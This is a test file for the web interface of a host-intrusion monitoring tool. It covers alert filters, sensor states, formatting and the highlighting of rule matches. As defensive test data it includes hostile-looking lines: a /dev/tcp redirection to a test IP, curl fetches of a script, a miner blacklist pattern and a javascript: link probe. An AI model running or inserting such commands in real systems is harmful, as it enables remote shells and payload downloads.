import { describe, expect, it } from "vitest";

import { ApiError, parseError, queryString } from "../api/client";
import { en } from "../i18n/en";
import { zh } from "../i18n/zh";
import { techniqueUrl } from "./attack";
import { accepts, fromSearch, isFirst, toParams, toSearch, usualStatus, withRepeated } from "./filters";
import { absolute, bytes, compact, duration, excerpt, relative, text } from "./format";
import { gist, pieces } from "./highlight";
import { bucketize } from "./histogram";
import { lesserRung, selectHosts, sensorState } from "./hosts";
import { byUrgency, fleetTotal } from "./ledger";
import { strength } from "./password";
import * as range from "./range";
import { fromRoot } from "./tree";

describe("numbers and times", () => {
  it("are short, but exact while they are small", () => {
    expect(compact(9_999, "en")).toBe("9,999");
    expect(compact(613_781, "zh")).toBe("61.4万");
    expect(bytes(0)).toBe("0 B");
    expect(bytes(1_536)).toBe("1.5 KiB");
    expect(bytes(2 ** 50)).toBe("1024 TiB");
  });

  it("are relative in the reader's language", () => {
    const now = Date.parse("2026-01-31T09:30:00Z");
    expect(relative("2026-01-31T09:25:00Z", now, "zh")).toBe("5分钟前");
    expect(relative("2026-01-31T09:30:00.4Z", now, "en")).toBe("now");
    expect(relative("2026-01-31T11:29:59Z", now, "en")).toBe("in 1 hr");
    expect(relative("yesterday", now, "en")).toBe("");
  });

  it("never hide a text that is not a time", () => {
    expect(absolute("yesterday")).toBe("yesterday");
    expect(absolute("2026-01-31T09:30:00.123456789Z")).toMatch(/^2026-0\d-\d\d \d\d:30:00$/);
  });

  it("show durations in two units", () => {
    expect(duration(0, "en")).toBe("0s");
    expect(duration(273_600, "en")).toBe("3d 4h");
    expect(duration(61, "zh")).toBe("1分 1秒");
  });

  it("show any value of a field", () => {
    expect(text(["a", "b"])).toBe("a ← b");
    expect(text(null)).toBe("");
    expect(text({ a: 1 })).toBe('{"a":1}');
  });
});

describe("errors of the API", () => {
  it("keep code, message and remedy", () => {
    const body = '{"error":{"code":"x","message":"no type","remedy":"add one"}}';
    expect(parseError(400, body)).toMatchObject({ code: "x", message: "no type", remedy: "add one" });
  });

  it("stay readable when the body is something else", () => {
    for (const body of ["", "<html>", "null", '{"error":"x"}', '{"error":{"message":1}}']) {
      expect(parseError(502, body)).toBeInstanceOf(ApiError);
      expect(parseError(502, body).code).toBe("client_http");
    }
  });

  it("are asked for with empty parameters left out", () => {
    expect(queryString({ q: "type:file | path:a b", cursor: "", limit: 0, x: undefined })).toBe(
      "?q=type%3Afile+%7C+path%3Aa+b&limit=0",
    );
  });
});

describe("excerpts", () => {
  it("keep short texts and cut long ones between characters", () => {
    expect(excerpt("ls -l")).toBe("ls -l");
    expect(excerpt("a".repeat(240))).toHaveLength(240);
    expect(excerpt("a".repeat(5_000))).toBe(`${"a".repeat(240)}…`);
    expect(excerpt("🐉".repeat(300))).toBe(`${"🐉".repeat(240)}…`);
  });
});

describe("the gist of a long value", () => {
  it("keeps the beginning and the mark with its neighbours", () => {
    const value = `rustc ${"a".repeat(3_000)} > /dev/tcp/192.0.2.1/9 ${"b".repeat(3_000)}`;
    const short = gist(pieces(value, "regex /dev/tcp"));
    expect(short.find(({ hit }) => hit)?.text).toBe("/dev/tcp");
    const text = short.map((piece) => piece.text).join("");
    expect(text.startsWith("rustc aaa")).toBe(true);
    expect(text).toContain("a > /dev/tcp/192.0.2.1/9 b");
    expect(text.length).toBeLessThan(260);
  });

  it("changes nothing where nothing is marked or little is said", () => {
    const unmarked = pieces("a".repeat(500), "regex b");
    expect(gist(unmarked)).toEqual(unmarked);
    const short = pieces("curl http://192.0.2.1", "regex curl");
    expect(gist(short)).toEqual(short);
  });
});

describe("alert filters (C11)", () => {
  const open = usualStatus(false);
  const learned = usualStatus(true);

  it("read back from the address they wrote", () => {
    const filter = fromSearch(new URLSearchParams("status=all&level=0&text=a%20b&agent_id=x"), open);
    expect(fromSearch(toSearch(filter, open), open)).toEqual(filter);
    expect(toParams(filter)).toMatchObject({ status: "", level: "0", text: "a b" });
  });

  it("start with open alerts and ignore nonsense", () => {
    const filter = fromSearch(new URLSearchParams("status=9&level=x&since=never"), open);
    expect(filter).toMatchObject({ status: "0", level: "", since: "" });
    expect(toSearch(filter, open).toString()).toBe("");
  });

  it("start with learned alerts in learn mode, unless the address names a status", () => {
    expect(fromSearch(new URLSearchParams(""), learned).status).toBe("4");
    const chosen = fromSearch(new URLSearchParams("status=0"), learned);
    expect(chosen.status).toBe("0");
    expect(toSearch(chosen, learned).toString()).toBe("status=0");
  });

  it("decide whether a fresh alert belongs into the list", () => {
    const alert = {
      status: 0,
      level: 1,
      type: "file",
      agent_id: "x",
      source: "Web shell",
      info: "/var/www/a.php",
      description: "",
      hostname: "web-1",
      ip: "192.0.2.1",
    } as Parameters<typeof accepts>[1];
    const check = (search: string) => accepts(fromSearch(new URLSearchParams(search), open), alert);
    expect(check("")).toBe(true);
    expect(check("text=SHELL&level=1")).toBe(true);
    expect(check("status=4")).toBe(false);
    expect(check("type=process")).toBe(false);
    expect(check("agent_id=y")).toBe(false);
  });

  it("tell new alerts from repeated and changed ones", () => {
    const raised = {
      id: "1",
      count: 1,
      status: 0,
      time: "2026-01-31T09:29:59Z",
      raised_at: "2026-01-31T09:30:00Z",
      uptime: "2026-01-31T09:29:59Z",
    } as Parameters<typeof isFirst>[0];
    const repeated = { ...raised, count: 2, uptime: "2026-01-31T09:31:00Z" };
    const handled = { ...raised, status: 1 as const, uptime: "2026-01-31T09:31:00Z" };
    const ahead = { ...raised, time: "2026-01-31T10:30:00Z", uptime: "2026-01-31T10:30:00Z" };
    expect(isFirst(raised)).toBe(true);
    expect(isFirst(ahead), "the host's clock is ahead").toBe(true);
    expect(isFirst(repeated)).toBe(false);
    expect(isFirst(handled)).toBe(false);
    expect(withRepeated([raised], repeated)).toEqual([repeated]);
    expect(withRepeated([raised], handled)).toEqual([raised]);
  });
});

describe("the ledger", () => {
  const host = (hostname: string, balanced: boolean, dropped: Record<string, number>) => ({
    agent_id: "a",
    hostname,
    streams: {
      file: { emitted: 10, spooled: 7, filtered: 1, dropped, stored: 5, in_flight: 2, balanced },
    },
  });

  it("of the fleet adds up and balances only when every stream does", () => {
    const lossy = host("a", true, { ring_full: 2, agent_down: 1 });
    expect(fleetTotal([lossy, lossy])).toEqual({
      emitted: 20,
      stored: 10,
      filtered: 2,
      dropped: 6,
      inFlight: 4,
      balanced: true,
    });
    expect(fleetTotal([lossy, host("b", false, {})]).balanced).toBe(false);
  });

  it("shows hosts with a fault first, then those with losses", () => {
    const hosts = [host("a", true, {}), host("b", true, { ring_full: 2 }), host("c", false, {})];
    expect(byUrgency(hosts).map(({ hostname }) => hostname)).toEqual(["c", "b", "a"]);
  });
});

describe("hosts", () => {
  const host = (hostname: string, health: number, tags: string[]) =>
    ({ hostname, health, tags, ip: "192.0.2.1", system: "Debian", agent_id: "a" }) as Parameters<
      typeof selectHosts
    >[0][number];
  const hosts = [host("b", 0, ["web"]), host("a", 0, []), host("c", 1, ["web", "db"])];
  const names = (filter: { text?: string; tag?: string; health?: string }) =>
    selectHosts(hosts, { text: "", tag: "", health: "", ...filter }).map((h) => h.hostname);

  it("that need attention come first, then by name", () => {
    expect(names({})).toEqual(["c", "a", "b"]);
  });

  it("are filtered by text, tag and health (C06)", () => {
    expect(names({ tag: "web" })).toEqual(["c", "b"]);
    expect(names({ health: "0" })).toEqual(["a", "b"]);
    expect(names({ text: " DEB " })).toHaveLength(3);
    expect(names({ text: "nothing" })).toEqual([]);
  });

  it("say which sensors run on a lesser source", () => {
    const sensor = { stream: "file", source: "inotify", running: true, reason: "no BTF", consequence: "" };
    expect(sensorState(sensor)).toBe("fallback");
    expect(sensorState({ ...sensor, reason: "" })).toBe("good");
    expect(sensorState({ ...sensor, running: false })).toBe("off");
  });

  it("say what a lesser source of executions costs, in both languages", () => {
    const sensor = { stream: "process", running: true, reason: "no BTF", consequence: "x" };
    const rung = (source: string, rung?: number) => lesserRung({ ...sensor, source, rung });
    expect(rung("ebpf", 1)).toBeUndefined();
    expect(rung("ebpf-btf-file", 2)).toBeUndefined();
    for (const [number, source] of [[3, "audit"], [4, "proc-connector"], [5, "proc-poll"]] as const) {
      expect(rung(source, number)).toBe(source);
      expect(en.host.rungs[source]).not.toBe("");
      expect(zh.host.rungs[source]).not.toBe(en.host.rungs[source]);
    }
    expect(lesserRung({ ...sensor, source: "audit", running: false, rung: 3 })).toBeUndefined();
  });
});

describe("passwords", () => {
  it("are rated by length first", () => {
    const cases: [string, string][] = [
      ["", "empty"],
      ["Sh0rt!", "short"],
      ["aaaaaaaaaaaaaaaa", "weak"],
      ["my-password-2026", "weak"],
      ["root-is-the-best-root", "weak"],
      ["velvet tundra", "fair"],
      ["Velvet tundra 7", "good"],
      ["purple envelope canyon", "good"],
    ];
    for (const [password, expected] of cases) {
      expect(strength(password, "root"), password).toBe(expected);
    }
  });
});

describe("matched values", () => {
  it("mark what the condition found", () => {
    expect(pieces("curl http://x/a.sh", "regex HTTP://X")).toEqual([
      { text: "curl ", hit: false },
      { text: "http://x", hit: true },
      { text: "/a.sh", hit: false },
    ]);
    expect(pieces("curl", "string CURL")).toEqual([{ text: "curl", hit: true }]);
    expect(pieces("xmrig", "blacklist ^XM")[0]).toEqual({ text: "xm", hit: true });
  });

  it("stay plain when there is nothing to mark or the pattern is foreign", () => {
    for (const condition of ["", "count 1", "non-regex a", "regex (?x", "regex nothing"]) {
      expect(pieces("abc", condition)).toEqual([{ text: "abc", hit: false }]);
    }
  });
});

describe("techniques", () => {
  it("link to their page, and only they do", () => {
    expect(techniqueUrl("T1059.004")).toBe("https://attack.mitre.org/techniques/T1059/004/");
    expect(techniqueUrl("T1110")).toBe("https://attack.mitre.org/techniques/T1110/");
    expect(techniqueUrl("javascript:alert(1)")).toBeUndefined();
  });
});

describe("process trees", () => {
  it("begin with the oldest ancestor and end with the process of the alert", () => {
    const nodes = [
      { pid: 3, ppid: 2, name: "/usr/bin/bash" },
      { pid: 2, ppid: 1, name: "/usr/sbin/sshd" },
      { name: "systemd" },
    ];
    expect(fromRoot(nodes).map(({ name, depth, subject }) => [name, depth, subject])).toEqual([
      ["systemd", 0, false],
      ["/usr/sbin/sshd", 1, false],
      ["/usr/bin/bash", 2, true],
    ]);
    expect(fromRoot([])).toEqual([]);
  });
});

describe("time ranges", () => {
  const now = Date.parse("2026-01-31T09:30:00Z");
  const read = (search: string) => range.fromSearch(new URLSearchParams(search), now);

  it("are a day unless the address says otherwise", () => {
    expect(read("")).toEqual({ name: "24h", since: "2026-01-30T09:30:00.000Z", until: "" });
    expect(read("range=nonsense").name).toBe("24h");
    expect(read("range=all")).toEqual({ name: "all", since: "", until: "" });
    expect(read("since=2026-01-01T00:00:00Z")).toMatchObject({ name: "custom", until: "" });
  });

  it("give the histogram a start even when there is none", () => {
    expect(range.spanOf(read(""), now)).toEqual({ from: now - 86_400_000, to: now, chosen: true });
    expect(range.spanOf(read("range=all"), now)).toMatchObject({ to: now, chosen: false });
    const backwards = read("since=2026-01-31T10:00:00Z&until=2026-01-31T09:00:00Z");
    const span = range.spanOf(backwards, now);
    expect(span.from).toBeLessThan(span.to);
  });

  it("read back from the browser's time field", () => {
    const time = "2026-01-31T09:30:15.000Z";
    expect(range.fromField(range.toField(time))).toBe(time);
    expect(range.fromField("")).toBe("");
  });
});

describe("histogram buckets", () => {
  it("fill gaps and the range that was asked for", () => {
    const at = (minute: number) => new Date(minute * 60_000).toISOString();
    const buckets = [
      { start: at(10), type: "file" as const, count: 2 },
      { start: at(12), type: "process" as const, count: 1 },
    ];
    const { starts, counts } = bucketize(buckets, 60, 8.5 * 60_000, 13.5 * 60_000);
    expect(starts).toEqual([9, 10, 11, 12, 13].map(at));
    expect(counts.file).toEqual([0, 2, 0, 0, 0]);
    expect(counts.process).toEqual([0, 0, 0, 1, 0]);
    expect(bucketize(buckets, 60, Infinity, 0).starts).toHaveLength(3);
  });
});
